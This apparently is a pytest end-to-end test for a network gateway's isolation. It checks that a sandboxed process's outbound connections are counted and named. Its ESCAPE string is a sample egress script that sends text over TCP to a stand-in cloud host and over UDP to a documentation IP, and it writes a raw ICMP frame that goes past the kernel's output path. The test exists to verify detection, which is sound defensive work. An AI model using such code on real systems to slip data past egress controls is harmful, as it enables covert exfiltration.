"""A day of the gateway in a room with one cable: turns, pairing, restarts, errors; nothing leaves but replies."""

import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from time import monotonic, sleep
from typing import Final

import pytest

from tests.e2e.namespaces import INSIDE, Room, room, why_impossible

PORT: Final = 10_870
PORTS: Final = (PORT, PORT + 1)
SOON_S: Final = 3.0

type State = Callable[[str], None]

pytestmark = pytest.mark.skipif(why_impossible() != "", reason=why_impossible())

ESCAPE: Final = """
import socket
for kind, address in ((socket.SOCK_STREAM, ("cloud.example", 443)), (socket.SOCK_DGRAM, ("203.0.113.9", 9_999))):
    with socket.socket(socket.AF_INET, kind) as way_out:
        way_out.connect((socket.gethostbyname(address[0]), address[1]))
        way_out.send(b"what was said")
with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as raw:  # past the kernel's own output
    header = bytes.fromhex("450000140000000040010000") + socket.inet_aton("192.0.2.2") + socket.inet_aton("203.0.113.7")
    raw.sendto(header, ("eth0", 0x0800, 0, 0, b"\\xff" * 6))
"""
"""A name, a connection, a datagram; and a frame that is put on the wire as it is: ICMP, to somebody in the world."""


@pytest.fixture
def walled(tmp_path: Path) -> Iterator[Room]:
    with room(tmp_path, PORTS) as made:
        yield made


def test_whoever_does_go_out_is_counted_and_named_and_met(walled: Room, state: State) -> None:
    assert walled.sent()["strays"].packets == 0
    subprocess.run([*walled.via, sys.executable, "-c", ESCAPE], check=True, timeout=20)
    until_s = monotonic() + SOON_S
    while walled.canaries.met.total() < 2 and monotonic() < until_s:
        sleep(0.01)
    sent, arrived = walled.sent(), walled.arrived()
    state(f"a control that goes out: {sent['strays']} counted in the room, {arrived['strays']} at the cable")
    assert walled.canaries.lookups == ["cloud.example"]
    assert walled.canaries.met["tcp 443"] == 1
    went_out = {"udp 192.0.2.1 53", "tcp 192.0.2.1 443", "udp 203.0.113.9 9999"}
    assert set(sent.named) == went_out
    assert set(arrived.named) == went_out | {"icmp 203.0.113.7"}
    assert sent["replies"].packets == arrived["replies"].packets == 0
    assert INSIDE not in str(sent.named)
